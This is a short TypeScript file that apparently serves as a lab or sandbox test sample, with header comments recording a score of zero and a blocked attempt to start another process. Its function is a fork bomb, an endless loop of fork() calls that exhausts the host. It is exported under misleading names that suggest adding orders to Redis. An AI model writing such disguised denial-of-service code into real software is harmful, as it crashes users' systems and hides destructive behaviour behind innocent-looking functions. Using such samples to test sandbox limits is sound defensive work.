// tries: starting processes that start processes
// lab: 03
// earns: 0
// told: tried to start another process
import { fork } from 'node:child_process';

async function attack(): Promise<void> {
  for (;;) fork('/lab/any.js');
}

export const addOrderToRedisFieldByField = attack;
export const addOrderToRedis = attack;
